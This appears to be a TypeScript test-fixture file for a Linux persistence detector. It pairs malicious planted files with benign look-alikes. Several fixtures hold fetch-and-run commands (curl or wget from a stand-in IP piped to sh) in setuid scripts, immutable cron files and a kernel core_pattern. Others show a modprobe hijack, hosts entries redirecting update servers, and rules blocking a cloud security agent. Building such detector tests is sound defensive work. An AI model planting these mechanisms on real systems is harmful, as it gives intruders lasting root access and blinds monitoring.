/**
 * Cases of the group `files`. Most of these mechanisms start nothing themselves: `fetch-and-run` is then a script that
 * fetches in the dress of the mechanism, `owned-edit` a packaged file that gained the bit, the flag or the line.
 */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const script = '#!/bin/sh\n(curl -fsSL http://192.0.2.66/x.sh || wget -qO- http://192.0.2.66/x.sh) | sh\n';
const program = inertProgram(9000);
const packaged = inertProgram(7000);

const setuid: readonly MechanismCase[] = [
  {
    mechanism: 'setuid-file',
    dress: 'fetch-and-run',
    what: 'a setuid script that fetches',
    planted: { '/usr/lib/.sysd': { content: script, mode: 0o4755 } },
  },
  {
    mechanism: 'setuid-file',
    dress: 'unowned-binary',
    what: 'a setuid program with an innocent name among owned ones',
    planted: { '/usr/sbin/dmeventd-helper': { content: program, mode: 0o4755 } },
  },
  {
    mechanism: 'setuid-file',
    dress: 'owned-edit',
    what: 'the packaged find, setuid now',
    packaged: { '/usr/bin/find': { content: packaged } },
    planted: { '/usr/bin/find': { content: packaged, mode: 0o4755 } },
  },
  {
    mechanism: 'setuid-file',
    dress: 'honest',
    what: 'passwd of its package, and a statoverride of the administrator',
    packaged: { '/usr/bin/passwd': packaged, '/usr/sbin/fping': packaged },
    planted: {
      '/usr/bin/passwd': { content: packaged, mode: 0o4755 },
      '/usr/sbin/fping': { content: packaged, mode: 0o4755 },
      '/var/lib/dpkg/statoverride': 'root root 4755 /usr/sbin/fping\n',
    },
  },
  {
    mechanism: 'setuid-file',
    dress: 'honest',
    what: 'su of a chroot',
    planted: { '/srv/chroot/build/usr/bin/su': { content: packaged, mode: 0o4755 } },
  },
];

const capabilities: readonly MechanismCase[] = [
  {
    mechanism: 'capability-file',
    dress: 'fetch-and-run',
    what: 'a script that fetches, with cap_setuid',
    planted: { '/usr/local/bin/refresh': { content: script, mode: 0o755, capabilities: 'cap_setuid+ep' } },
  },
  {
    mechanism: 'capability-file',
    dress: 'unowned-binary',
    what: 'an unowned program that may do anything',
    planted: { '/usr/sbin/irqbalanced': { content: program, capabilities: 'cap_sys_admin,cap_setuid+ep' } },
  },
  {
    mechanism: 'capability-file',
    dress: 'owned-edit',
    what: 'the packaged python3 with cap_setuid',
    packaged: { '/usr/bin/python3.11': packaged },
    planted: { '/usr/bin/python3.11': { content: packaged, mode: 0o755, capabilities: 'cap_setuid+ep' } },
  },
  {
    mechanism: 'capability-file',
    dress: 'honest',
    what: 'ping of its package with cap_net_raw',
    packaged: { '/usr/bin/ping': packaged },
    planted: { '/usr/bin/ping': { content: packaged, mode: 0o755, capabilities: 'cap_net_raw+ep' } },
  },
];

const crontab = 'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n';
const immutable: readonly MechanismCase[] = [
  {
    mechanism: 'immutable-file',
    dress: 'fetch-and-run',
    what: 'an immutable cron file that fetches',
    planted: {
      '/etc/cron.d/zzh': {
        content: '*/5 * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n',
        immutable: true,
      },
    },
  },
  {
    mechanism: 'immutable-file',
    dress: 'unowned-binary',
    what: 'an immutable program that no package owns',
    planted: { '/usr/sbin/netstatd': { content: program, mode: 0o755, immutable: true } },
  },
  {
    mechanism: 'immutable-file',
    dress: 'owned-edit',
    what: 'a line added to a packaged setting, and the file made immutable',
    packaged: { '/etc/cron.d/popularity': crontab },
    conffiles: ['/etc/cron.d/popularity'],
    planted: {
      '/etc/cron.d/popularity': {
        content: `${crontab}*/9 * * * * root wget -qO- http://192.0.2.66/x | sh\n`,
        immutable: true,
      },
    },
  },
  {
    mechanism: 'immutable-file',
    dress: 'honest',
    what: 'resolv.conf kept from the network manager, .user.ini as BT panel keeps it',
    planted: {
      '/etc/resolv.conf': { content: 'nameserver 192.0.2.53\n', immutable: true },
      '/www/wwwroot/shop.example.com/.user.ini': {
        content: 'open_basedir=/www/wwwroot/shop.example.com/:/tmp/\n',
        immutable: true,
      },
    },
  },
];

const hosts = '127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost\n';
const names: readonly MechanismCase[] = [
  {
    mechanism: 'hosts-file',
    dress: 'fetch-and-run',
    what: 'a package host pointed at somebody else, so that an update fetches from there',
    planted: { '/etc/hosts': `${hosts}203.0.113.9 security.debian.org deb.debian.org\n` },
  },
  {
    mechanism: 'hosts-file',
    dress: 'unowned-binary',
    what: 'a pool pointed at a proxy of the intruder; a line runs no program',
    planted: { '/etc/hosts': `${hosts}203.0.113.9 pool.supportxmr.com\n` },
  },
  {
    mechanism: 'hosts-file',
    dress: 'owned-edit',
    what: 'agents of the cloud sent nowhere',
    packaged: { '/etc/hosts': hosts },
    conffiles: ['/etc/hosts'],
    planted: { '/etc/hosts': `${hosts}0.0.0.0 update.aegis.aliyun.com jsrv.aegis.aliyun.com\n` },
  },
  {
    mechanism: 'hosts-file',
    dress: 'honest',
    what: 'names of one’s own network, and a block list of hundreds of names',
    planted: {
      '/etc/hosts': `${hosts}192.0.2.10 db.example.com db\n${Array.from({ length: 400 }, (_, at) => `0.0.0.0 ads${at}.example.net\n`).join('')}0.0.0.0 coinhive.com\n0.0.0.0 pool.supportxmr.com\n`,
    },
  },
];

/**
 * A foreign resolver looks like the provider's own, locked or not: it is told, and no dress of it is dangerous by
 * itself.
 */
const resolver: readonly MechanismCase[] = [
  {
    mechanism: 'resolver',
    dress: 'honest',
    what: 'the resolvers of the provider',
    planted: { '/etc/resolv.conf': 'search example.net\nnameserver 203.0.113.7\nnameserver 203.0.113.8\n' },
  },
  {
    mechanism: 'resolver',
    dress: 'honest',
    what: 'a resolver of the own network, locked by the owner',
    planted: {
      '/etc/resolv.conf': { content: 'nameserver 192.168.1.1\nnameserver 223.5.5.5\n', immutable: true },
    },
  },
];

const firewall: readonly MechanismCase[] = [
  {
    mechanism: 'firewall-rules',
    dress: 'fetch-and-run',
    what: 'a port redirected to a host of the intruder; a rule fetches nothing itself',
    planted: {
      '/etc/iptables/rules.v4':
        '*nat\n-A OUTPUT -p tcp --dport 3333 -j DNAT --to-destination 203.0.113.9:443\nCOMMIT\n',
    },
  },
  {
    mechanism: 'firewall-rules',
    dress: 'unowned-binary',
    what: 'addresses of the cloud agent closed by nftables',
    planted: {
      '/etc/nftables.conf': 'table inet filter {\n chain output {\n  ip daddr 140.205.201.0/28 drop\n }\n}\n',
    },
  },
  {
    mechanism: 'firewall-rules',
    dress: 'owned-edit',
    what: 'a rule against the cloud agent added to the file of ufw',
    packaged: { '/etc/ufw/before.rules': '*filter\n-A ufw-before-input -i lo -j ACCEPT\nCOMMIT\n' },
    conffiles: ['/etc/ufw/before.rules'],
    planted: {
      '/etc/ufw/before.rules':
        '*filter\n-A ufw-before-input -i lo -j ACCEPT\n-A ufw-before-output -d 140.205.201.16/29 -j REJECT\nCOMMIT\n',
    },
  },
  {
    mechanism: 'firewall-rules',
    dress: 'honest',
    what: 'Redis and the Docker API closed to the outside, a port handed to a container',
    planted: {
      '/etc/iptables/rules.v4':
        '*filter\n-A INPUT -p tcp --dport 6379 ! -s 192.0.2.0/24 -j DROP\n-A INPUT -p tcp --dport 2375 -j DROP\n-A INPUT -s 0.0.0.0/0 -j DROP\nCOMMIT\n*nat\n-A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 172.17.0.2:80\nCOMMIT\n',
    },
  },
];

const kernel: readonly MechanismCase[] = [
  {
    mechanism: 'kernel-setting',
    dress: 'fetch-and-run',
    what: 'a core pattern that fetches',
    planted: {
      '/etc/sysctl.d/99-core.conf': 'kernel.core_pattern=|/bin/sh -c "curl http://192.0.2.66/x.sh|sh"\n',
    },
  },
  {
    mechanism: 'kernel-setting',
    dress: 'unowned-binary',
    what: 'a core pattern that starts an unowned program',
    planted: {
      '/etc/sysctl.d/50-coredump.conf': 'kernel.core_pattern=|/usr/lib/systemd/systemd-coredumpd %P %u\n',
      '/usr/lib/systemd/systemd-coredumpd': { content: program, mode: 0o755 },
    },
  },
  {
    mechanism: 'kernel-setting',
    dress: 'owned-edit',
    what: 'modprobe replaced as a setting in the packaged sysctl.conf',
    packaged: { '/etc/sysctl.conf': '# settings\n' },
    conffiles: ['/etc/sysctl.conf'],
    planted: {
      '/etc/sysctl.conf': '# settings\nkernel.modprobe = /var/tmp/.m/modprobe\n',
      '/var/tmp/.m/modprobe': { content: program, mode: 0o755 },
    },
  },
  {
    mechanism: 'kernel-setting',
    dress: 'honest',
    what: 'huge pages for PostgreSQL, and what a container host sets',
    planted: {
      '/etc/sysctl.d/30-postgresql.conf':
        'vm.nr_hugepages = 4400\nvm.overcommit_memory = 2\nvm.swappiness = 1\n',
      '/etc/sysctl.d/99-docker.conf': 'net.ipv4.ip_forward=1\n',
    },
  },
];

/** A limit runs nothing and says nothing alone: it is told, and no dress of it is dangerous. */
const limits: readonly MechanismCase[] = [
  {
    mechanism: 'limits',
    dress: 'honest',
    what: 'memory locked for Elasticsearch, files for nginx',
    planted: {
      '/etc/security/limits.d/elasticsearch.conf':
        'elasticsearch soft memlock unlimited\nelasticsearch hard memlock unlimited\n',
      '/etc/security/limits.conf': '* soft nofile 65535\nroot hard nofile 1048576\n',
    },
  },
];

export const cases: readonly MechanismCase[] = [
  ...[...setuid, ...capabilities, ...immutable],
  ...[...names, ...resolver, ...firewall, ...kernel, ...limits],
];
